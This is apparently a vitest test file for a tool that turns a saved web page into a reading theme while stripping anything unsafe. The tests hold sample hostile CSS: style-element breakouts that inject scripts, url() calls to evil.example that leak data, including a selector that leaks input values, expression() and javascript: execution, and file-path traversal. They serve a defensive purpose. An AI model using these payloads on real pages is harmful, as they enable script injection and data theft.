import { mkdir, mkdtemp, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { HtmlValidate } from 'html-validate';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { renderPost } from '../../shared/export/renderPost';
import { everyBlock } from '../../shared/export/testing/everyBlock';
import { lampwright } from '../../shared/site/testing/lampwright';
import { realDisk } from '../store';
import { importStylesheet } from './importStylesheet';
import { assertHarmless, HarmfulSheetError } from './stylesheet/assertHarmless';
import { cleanSheet } from './stylesheet/cleanSheet';
import { collectStyles } from './stylesheet/collectStyles';
import { Tally } from './stylesheet/Tally';
import { ThemeShelf } from './ThemeShelf';

const SHIPPED = join(import.meta.dirname, '../../../resources/themes');
let folder: string;
beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), 'galley-styles-'));
});
afterEach(() => rm(folder, { recursive: true, force: true }));

const parts = (path: string | null, disk = realDisk) => ({
  ...{ hers: join(folder, 'themes'), shipped: SHIPPED, disk, log: () => undefined },
  choose: () => Promise.resolve(path),
  read: collectStyles,
});

/** A page as a browser saves it, with its folder. */
async function savePage(html: string, files: Record<string, string | Buffer> = {}): Promise<string> {
  await mkdir(join(folder, 'Tide_files'), { recursive: true });
  for (const [name, text] of Object.entries(files)) await writeFile(join(folder, 'Tide_files', name), text);
  await writeFile(join(folder, 'Tide.html'), html);
  return join(folder, 'Tide.html');
}

async function take(path: string) {
  const answer = await importStylesheet(parts(path));
  if (!answer.ok) throw new Error(answer.failure.happened);
  const { themeId, taken, dropped } = answer.value!;
  const shelf = new ThemeShelf({
    ...{ shipped: SHIPPED, hers: join(folder, 'themes'), disk: realDisk, log: () => undefined },
  });
  return { theme: await shelf.get(themeId), themeId, taken, dropped };
}

/** One that nothing closes goes on to the end. */
const STRING = /"(?:[^"\\]|\\.)*(?:"|$)|'(?:[^'\\]|\\.)*(?:'|$)/gs;

describe('a saved page', () => {
  const HTML = `<!doctype html><html><head><title>One day – Tide</title><meta property="og:site_name" content="The Tide">
    <link rel="stylesheet" href="./Tide_files/main.css" media="screen">
    <style>.entry-content p { color: #123456 }</style>
    <link rel="stylesheet" href="https://cdn.example/far.css"><script src="a.js"></script></head>
    <body class="single" onload="x()"><header><h2 class="logo"><a href="https://tide.example">The Tide {{title}}</a></h2></header>
    <div class="site"><article class="post"><h1 class="entry-title">Old headline</h1>
    <div class="entry-content"><p>Old words</p></div><p>Share this</p></article></div><div id="wpadminbar">Howdy</div><section id="comments">First!</section><footer>© Tide</footer></body></html>`;
  const FILES = {
    'main.css': '@import "more.css"; @import url(https://cdn.example/x.css); a { background: url(a.png) }',
    'more.css':
      '@font-face { font-family: Tide; src: url(https://cdn.example/t.woff2), url("t.woff2?x#y") format("woff2") }',
    'a.png': Buffer.from('png'),
    't.woff2': Buffer.from('font'),
  };

  it('becomes a theme that wears its sheets in their order, with the pictures and fonts beside it', async () => {
    const { theme, themeId, taken, dropped } = await take(await savePage(HTML, FILES));
    expect(themeId).toBe('the-tide');
    expect(theme).toMatchObject({ name: 'The Tide', isHers: true });
    expect(theme.css.replaceAll(/\s+/g, '')).toBe(
      [
        '@layergalley-base{img{max-width:100%;height:auto;}}',
        '@mediascreen{@font-face{font-family:Tide;src:url(data:font/woff2;base64,Zm9udA==)format("woff2")}',
        'a{background:url(data:image/png;base64,cG5n)}}.entry-contentp{color:#123456}',
      ].join(''),
    );
    expect(taken).toEqual(['3 style sheets', '2 rules', '1 font', '1 picture']);
    expect(dropped).toEqual([
      '1 script',
      '1 handler of an event',
      '2 style sheets that are not beside the page',
      '1 picture or font that is not beside the page',
    ]);
  });

  it('lends its frame to every article, and none of its own', async () => {
    const { theme } = await take(await savePage(HTML, FILES));
    const page = renderPost(everyBlock(), { ...lampwright(), theme }, 'web-page', { firstVisit: true }).text;
    expect(page).toContain('<h2 class="logo"><a>The Tide &#123;&#123;title}}</a></h2>');
    expect(page).toMatch(/<article class="post"><h1 class="entry-title">Every block/);
    expect(page).toContain('<div class="body entry-content">');
    expect(page).toContain('© Tide');
    expect(page).not.toMatch(/Old headline|Old words|Share this|Howdy|First!|tide\.example"|onload/);
    const { results } = new HtmlValidate({ extends: ['html-validate:standard'] }).validateStringSync(page);
    expect(results.flatMap(({ messages }) => messages.map(({ message }) => message))).toEqual([]);
  });

  it('has its text in WordPress’s own elements and classes where WordPress made it', async () => {
    const made = HTML.replace('<script', '<meta name="generator" content="WordPress 6.8"><script');
    const own = (await take(await savePage(HTML, FILES))).theme;
    const theirs = (await take(await savePage(made, FILES))).theme;
    const page = (theme: typeof own) =>
      renderPost(everyBlock(), { ...lampwright(), theme }, 'web-page', { firstVisit: true }).text;
    expect(page(own)).toContain('<figure class="pull-quote">');
    expect(page(theirs)).toContain('<figure class="wp-block-pullquote">');
    expect((await take(await savePage(made, FILES))).dropped.at(-1)).toMatch(
      /^styles of what is not on the page: quotations, lists/,
    );
    // Of somebody else's block there are only the words: its markup could do harm.
    expect(page(theirs)).not.toContain('<!-- wp:');
    expect(page(theirs)).not.toContain('wp-block-buttons');
    const { results } = new HtmlValidate({ extends: ['html-validate:standard'] }).validateStringSync(
      page(theirs),
    );
    expect(results.flatMap(({ messages }) => messages.map(({ message }) => message))).toEqual([]);
  });

  it('stands over the plain page where it does not show where its article is', async () => {
    const { theme } = await take(await savePage('<style>p { color: red }</style><p>Words</p>'));
    const reading = await new ThemeShelf({
      ...{ shipped: SHIPPED, hers: '', disk: realDisk, log: () => undefined },
    }).get('reading');
    expect(theme.template).toBe(reading.template);
    expect(theme.css).toMatch(/^@layer galley-base \{[^]*\}\np\{color:red\}$/);
  });

  it('is made beside an earlier one of its name', async () => {
    const page = await savePage('<title>News</title><style>p{}</style>');
    expect((await take(page)).themeId).toBe('news-2');
    expect((await take(page)).themeId).toBe('news-3');
  });
});

describe('a page that was made to do harm', () => {
  it.each([
    ['ends its element', 'p::before{content:"</style><script>alert(1)</script>"}'],
    ['ends its element in a comment', '/*! </style><script> */p{}'],
    ['ends its element in a selector', 'p, a[title="</STYLE >"] {color: red}'],
    [
      'asks the network',
      'p{background:url(https://evil.example/?a)} a{background:image-set("//evil.example/b" 1x)}',
    ],
    [
      'asks it by other letters',
      'p{background:\\75 rl("https://evil.example")} a{background:u\\72l(https://evil.example)}',
    ],
    [
      'asks it in a variable',
      ':root{--x:url(https://evil.example);--y:"https://evil.example"} p{background:image-set(var(--y) 1x)}',
    ],
    ['asks it by letters of her page', 'input[value^="a"]{background:url(//evil.example/a)}'],
    ['imports', 'p{} @import "https://evil.example"; @media print{@import url(//evil.example)}'],
    [
      'runs',
      'p{width:expression(alert(1));behavior:url(a.htc);-moz-binding:url(a.xml#x);background:url(javascript:alert(1))}',
    ],
    [
      'names her disk',
      'p{background:url(file:///etc/hostname)} a{background:url(../../../etc/hostname)} b{background:url(/etc/hostname)}',
    ],
    ['is broken', 'p{background:url(https://evil.example/ a b} @font-face{src:url(https://evil.example'],
    ['is a namespace', '@namespace url(https://evil.example); @document url(https://evil.example){p{}} p{}'],
  ])('%s', async (_what, css) => {
    const clean = await cleanSheet(
      css,
      { data: () => Promise.resolve(null), imported: () => Promise.resolve(null) },
      new Tally(),
    );
    expect(() => assertHarmless(clean)).not.toThrow();
    expect(clean).not.toMatch(/<\/style|url\((?!data:|#)|expression\(|@import|htc/i);
    expect(clean.replaceAll(/--y:"[^"]*"/g, '')).not.toContain('evil.example');
  });

  it('never names a file, whatever is put together', async () => {
    const bits = [
      'p{',
      '}',
      'url(',
      ')',
      '"',
      "'",
      'https://e.example',
      '\\75rl(',
      '@import ',
      ';',
      'src:',
      '--x:',
      '/*',
      '*/',
      '</style>',
      'image-set(',
      ',',
      '@media print{',
      'background:',
      'a',
    ];
    await fc.assert(
      fc.asyncProperty(fc.array(fc.constantFrom(...bits), { maxLength: 30 }), async (some) => {
        const files = { data: () => Promise.resolve(null), imported: () => Promise.resolve(null) };
        // The last look refuses what the cleaning would leave, and then nothing of the sheet is taken.
        const clean = await cleanSheet(some.join(''), files, new Tally()).catch((error: unknown) => {
          if (error instanceof HarmfulSheetError) return '';
          throw error;
        });
        // In a string it is words, but for the end of the element, which HTML reads first.
        expect(clean).not.toMatch(/<\/style/i);
        expect(clean.replaceAll(STRING, '""')).not.toMatch(/url\([^)]|@import/i);
      }),
      {
        numRuns: 500,
        examples: [[['p{', '--x:', "'", 'url(']], [["'", '"', "'", 'p{', 'background:', "'", '@import ']]],
      },
    );
  });

  it('has nothing of her disk but the folder that was saved with it', async () => {
    await writeFile(join(folder, 'private.png'), 'secret');
    const page = await savePage(
      '<style>a{background:url(private.png)} b{background:url(Tide_files/link.png)} i{background:url(Tide_files/../private.png)}</style>',
    );
    await symlink(join(folder, 'private.png'), join(folder, 'Tide_files', 'link.png'));
    const { theme, dropped } = await take(page);
    expect(theme.css).not.toContain(Buffer.from('secret').toString('base64'));
    expect(dropped).toEqual(['3 pictures or fonts that are not beside the page']);
  });

  it.each([
    ['a sheet beyond all measure', `<style>${'p{color:red}'.repeat(700_000)}</style>`, 'too large'],
    ['a sheet nested beyond any', `<style>${'@media all{'.repeat(60_000)}p{}</style>`, 'without harm'],
    ['no sheet', '<p>Words', 'no style sheet'],
  ])('%s is told, and no theme is made', async (_what, html, told) => {
    const answer = await importStylesheet(parts(await savePage(html)));
    expect(answer.ok ? '' : answer.failure.happened).toContain(told);
    expect(await readdir(join(folder, 'themes')).catch(() => [])).toEqual([]);
  });
});

describe('what goes wrong', () => {
  it('is a file that is gone, or of another kind', async () => {
    const gone = await importStylesheet(parts(join(folder, 'gone.html')));
    expect(gone.ok ? '' : gone.failure.code).toBe('unreachable');
    const other = await importStylesheet(parts(join(folder, 'a.docx')));
    expect(other.ok ? '' : other.failure.happened).toContain('no web page');
    expect(await importStylesheet(parts(null))).toEqual({ ok: true, value: null });
  });

  it('is a full disk: no half a theme is left', async () => {
    const full = {
      ...realDisk,
      rename: (from: string, to: string) =>
        to.endsWith('theme.json')
          ? Promise.reject(Object.assign(new Error('ENOSPC'), { code: 'ENOSPC' }))
          : realDisk.rename(from, to),
    };
    const answer = await importStylesheet(parts(await savePage('<style>p{}</style>'), full));
    expect(answer.ok ? '' : answer.failure.code).toBe('disk-full');
    expect(await readdir(join(folder, 'themes'))).toEqual([]);
  });

  it('is no encoding of another country', async () => {
    await writeFile(
      join(folder, 'a.css'),
      Buffer.concat([
        Buffer.from('@charset "gb18030"; p::before{content:"'),
        Buffer.from([0xb5, 0xc6, 0xc3, 0xf7, 0xb0, 0xb5]),
        Buffer.from('"}'),
      ]),
    );
    await importStylesheet(parts(join(folder, 'a.css')));
    expect(await readFile(join(folder, 'themes/a/styles/imported.css'), 'utf8')).toContain('灯明暗');
  });
});
